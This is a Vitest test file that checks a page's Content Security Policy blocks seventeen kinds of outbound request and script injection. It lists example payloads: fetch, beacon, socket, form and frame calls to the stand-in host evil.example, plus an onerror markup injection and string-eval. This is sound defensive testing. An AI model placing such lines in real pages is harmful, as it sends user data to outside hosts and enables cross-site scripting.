import { expect } from 'vitest'
import { inBrowser } from './app'
import { withBrowser as test } from './journeys'

/** Ways in which a page can ask something of somebody, each as a script. */
const ways: readonly (readonly [name: string, script: string])[] = [
  ['a request', "fetch('https://evil.example/')"],
  ['a request that wants no answer', "fetch('https://evil.example/', { mode: 'no-cors' })"],
  ['a request to another program on this computer', "fetch('http://127.0.0.1:9/')"],
  ['a beacon', "navigator.sendBeacon('https://evil.example/', 'x')"],
  ['a socket', "new WebSocket('wss://evil.example/')"],
  ['a stream of events', "new EventSource('https://evil.example/')"],
  ['a picture', "new Image().src = 'https://evil.example/x.png'"],
  ['a script', "add('script', { src: 'https://evil.example/x.js' })"],
  ['a script in the page', "add('script', { textContent: 'window.evil = true' })"],
  ['a style', "add('link', { rel: 'stylesheet', href: 'https://evil.example/x.css' })"],
  ['a frame', "add('iframe', { src: 'https://evil.example/' })"],
  ['a video', "add('video', { src: 'https://evil.example/x.mp4' })"],
  ['a page fetched ahead', "add('link', { rel: 'prefetch', href: 'https://evil.example/' })"],
  ['a text that becomes markup', "document.body.innerHTML = '<img src=x onerror=evil=1>'"],
  ['a form', "add('form', { action: 'https://evil.example/' }).submit()"],
  ['a worker', "new Worker(URL.createObjectURL(new Blob([''])))"],
  ['a text run as a script', "setTimeout('window.evil = true')"],
]

const add = 'const add = (tag, fields) => document.head.appendChild(Object.assign(document.createElement(tag), fields))'

test.for(ways)(
  'the policy of the page forbids %s, and the journeys would notice',
  async ([, script], { folder, browser }) => {
    const app = await inBrowser.start(folder, browser)
    await app.page.evaluate(`{ ${add}; try { ${script} } catch {}; undefined }`)
    await expect.poll(() => app.strangers().join()).toContain('Content Security Policy')
    expect(await app.page.evaluate('window.evil')).toBeUndefined()
    await app.kill()
  },
)
